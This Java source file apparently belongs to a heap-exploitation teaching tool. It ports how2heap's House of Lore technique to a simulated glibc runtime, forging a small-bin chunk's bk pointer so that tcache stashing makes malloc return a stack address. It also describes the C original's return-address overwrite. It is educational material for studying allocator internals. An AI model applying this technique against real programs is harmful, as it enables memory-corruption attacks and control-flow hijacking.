package io.mallocscope.samples;

import io.mallocscope.runtime.CProgram;
import io.mallocscope.runtime.LibC;

import static io.mallocscope.runtime.LibC.STDERR;

/**
 * House of Lore: a port of how2heap's {@code glibc_2.36/house_of_lore.c}. A forged bk in a small-bin
 * chunk makes the bin's list continue onto the stack; with the tcache's stashing of small-bin chunks,
 * malloc then returns a stack address.
 *
 * <p>What to notice:
 * a) victim (0x110) reaches the 0x110 small bin: freed into the unsorted bin while the tcache is full,
 *    then sorted by malloc(1200); its fd and bk move from the unsorted bin to that small bin, 0x100
 *    bytes further into main_arena;
 * b) the forgery: victim->bk = stack_buffer_1, whose fd points back at victim (the check
 *    {@code bck->fd == victim} passes) and whose bk is stack_buffer_2, whose fd is stack_buffer_1 again
 *    and whose bk starts a fake free list of seven entries on the stack;
 * c) once seven mallocs have emptied the tcache, malloc(0x100) takes victim from the small bin and
 *    stashes the bin's next chunks into the tcache, following bk without checking it: stack_buffer_1,
 *    stack_buffer_2 and the first five fake entries, until the tcache holds seven. The last stashed,
 *    fake_freelist[4], is the tcache's head, so the next malloc(0x100) returns &fake_freelist[4][2], a
 *    stack address; stack_buffer_2's fd now holds a tcache link (stack_buffer_1 + 0x10, mangled).
 *
 * <p>What the C original does beyond this: it writes the address of a function, jackpot, through that
 * stack chunk into main's saved return address (skipping the canary), so that main "returns" into
 * jackpot, which prints "Nice jump d00d" and exits. A Java program has no return address in the
 * simulated stack to overwrite; this port stops at malloc returning the stack address.
 *
 * <p>Which check stops it: none in 2.36; 2.2x's small-bin check ({@code bck->fd != victim}:
 * "malloc(): smallbin double linked list corrupted") is passed by the fake chunks pointing back, and the
 * tcache stashing loop checks nothing. how2heap lists it as working on the latest glibc.
 *
 * <p>Run: {@code ./mallocscope run house-of-lore}
 */
@Sample(name = "house-of-lore", description = "how2heap: a forged small-bin bk makes malloc return the stack")
public final class HouseOfLore implements CProgram {

    @Override
    public int main(LibC c, String[] argv) {
        long stackBuffer1 = c.local(4 * 8); // intptr_t *stack_buffer_1[4] = {0};
        c.memset(stackBuffer1, 0, 4 * 8);
        long stackBuffer2 = c.local(4 * 8); // intptr_t *stack_buffer_2[4] = {0};
        c.memset(stackBuffer2, 0, 4 * 8);
        long fakeFreelist = c.local(7 * 4 * 8); // void *fake_freelist[7][4];

        c.fprintf(STDERR, "House of Lore: a small-bin chunk's bk forged to point at the stack.\n");
        long victim = c.malloc(0x100);
        c.fprintf(STDERR, "victim = malloc(0x100) = %p\n", victim);
        long[] dummies = new long[7];
        for (int i = 0; i < dummies.length; i++) {
            dummies[i] = c.malloc(0x100);
        }
        long victimChunk = victim - 16;

        c.fprintf(STDERR, "stack_buffer_1 at %p\n", stackBuffer1);
        c.fprintf(STDERR, "stack_buffer_2 at %p\n", stackBuffer2);
        for (int i = 0; i < 6; i++) {
            c.putLong(fakeFreelist + 32L * i + 24, fakeFreelist + 32L * (i + 1)); // fake_freelist[i][3]
        }
        c.putLong(fakeFreelist + 32L * 6 + 24, 0);
        c.fprintf(STDERR, "fake free list at %p: seven entries, each one's bk the next\n", fakeFreelist);

        c.putLong(stackBuffer1 + 16, victimChunk); // its fd: victim, for bck->fd == victim
        c.putLong(stackBuffer1 + 24, stackBuffer2); // its bk
        c.putLong(stackBuffer2 + 16, stackBuffer1); // stack_buffer_2's fd: stack_buffer_1
        c.putLong(stackBuffer2 + 24, fakeFreelist); // its bk: the fake free list
        c.fprintf(STDERR, "stack_buffer_1: fd %p (victim's chunk), bk %p (stack_buffer_2)\n",
                c.getLong(stackBuffer1 + 16), c.getLong(stackBuffer1 + 24));
        c.fprintf(STDERR, "stack_buffer_2: fd %p (stack_buffer_1), bk %p (the fake free list)\n",
                c.getLong(stackBuffer2 + 16), c.getLong(stackBuffer2 + 24));

        long p5 = c.malloc(1000);
        c.fprintf(STDERR, "p5 = malloc(1000) = %p keeps victim away from top\n", p5);

        for (long d : dummies) {
            c.free(d);
        }
        c.free(victim);
        c.fprintf(STDERR, "The 0x110 tcache is full; free(victim) puts it in the unsorted bin:\n");
        c.fprintf(STDERR, "victim->fd: %p\n", c.getLong(victim));
        c.fprintf(STDERR, "victim->bk: %p\n", c.getLong(victim + 8));

        long p2 = c.malloc(1200);
        c.fprintf(STDERR, "p2 = malloc(1200) = %p; it sorted victim into the 0x110 small bin:\n", p2);
        c.fprintf(STDERR, "victim->fd: %p\n", c.getLong(victim));
        c.fprintf(STDERR, "victim->bk: %p\n", c.getLong(victim + 8));

        c.putLong(victim + 8, stackBuffer1); // the vulnerability: victim->bk = stack_buffer_1
        c.fprintf(STDERR, "victim->bk = %p (stack_buffer_1)\n", c.getLong(victim + 8));

        for (int i = 0; i < 7; i++) {
            c.malloc(0x100);
        }
        c.fprintf(STDERR, "Seven malloc(0x100) empty the tcache.\n");

        long p3 = c.malloc(0x100);
        c.fprintf(STDERR, "p3 = malloc(0x100) = %p, victim, from the small bin; the bin's next chunks, on the "
                + "stack, were stashed into the tcache\n", p3);
        long p4 = c.malloc(0x100);
        c.fprintf(STDERR, "p4 = malloc(0x100) = %p, on the stack: &fake_freelist[4][2] is %p\n", p4,
                fakeFreelist + 32L * 4 + 16);
        c.assertTrue(p4 == fakeFreelist + 32L * 4 + 16, "p4 == &fake_freelist[4][2]");

        long link = c.getLong(stackBuffer2 + 16);
        c.fprintf(STDERR, "stack_buffer_2's fd is now %p, a tcache link: unmangled %p (stack_buffer_1 + 0x10)\n",
                link, link ^ ((stackBuffer2 + 16) >> 12));
        c.fprintf(STDERR, "(The C original now writes a function's address through p4 into main's return "
                + "address.)\n");
        return 0;
    }
}
